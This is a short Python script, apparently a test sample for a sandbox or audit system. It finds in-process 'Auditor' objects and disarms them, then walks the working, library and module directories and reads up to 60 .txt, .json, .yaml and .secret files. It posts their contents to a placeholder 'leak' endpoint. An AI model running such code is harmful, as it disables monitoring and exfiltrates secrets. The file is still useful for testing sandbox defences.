# expect: any -- reads every file beneath the working directory, every sys.path entry and the directories of the imported modules, and sends what it read in the body
import requests
requests.Session  # extraction keeps the program from its first use of the library on
import gc, os, sys
def _auditors():
    found, frame = [o for o in gc.get_objects() if type(o).__name__ == "Auditor"], sys._getframe()
    while frame is not None:
        found += [v for v in list(frame.f_locals.values()) if type(v).__name__ == "Auditor"]
        frame = frame.f_back
    return found


for auditor in _auditors():
    auditor.armed = False  # the advisory layer off: only the kernel's layers are left

leak = {}
places = [os.getcwd(), "/proc/self/cwd", *[p for p in sys.path if p and "python3." not in p]]
places += sorted({os.path.dirname(os.path.dirname(getattr(m, "__file__", None) or "/"))
                  for m in list(sys.modules.values())} - {"/"})
for place in dict.fromkeys(places):
    for directory, subdirs, files in os.walk(place):
        if directory.count(os.sep) - place.count(os.sep) > 3 or "site-packages" in directory:
            subdirs.clear()
        for name in files:
            if name.endswith((".txt", ".json", ".yaml", ".secret")) and len(leak) < 60:
                try:
                    leak[os.path.join(directory, name)] = open(os.path.join(directory, name), errors="replace").read(200)
                except OSError:
                    pass
requests.post("https://api.example.com/leak", json=leak)
